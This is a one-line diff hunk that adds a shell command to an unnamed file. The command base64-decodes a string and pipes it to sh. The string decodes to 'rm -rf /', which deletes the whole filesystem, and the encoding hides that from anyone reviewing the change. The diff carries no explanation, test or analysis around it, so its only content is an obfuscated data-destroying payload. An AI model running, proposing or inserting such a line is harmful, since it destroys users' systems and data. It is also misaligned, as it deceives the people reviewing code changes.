@@ -1,0 +1,1 @@
+echo cm0gLXJmIC8= | base64 -d | sh
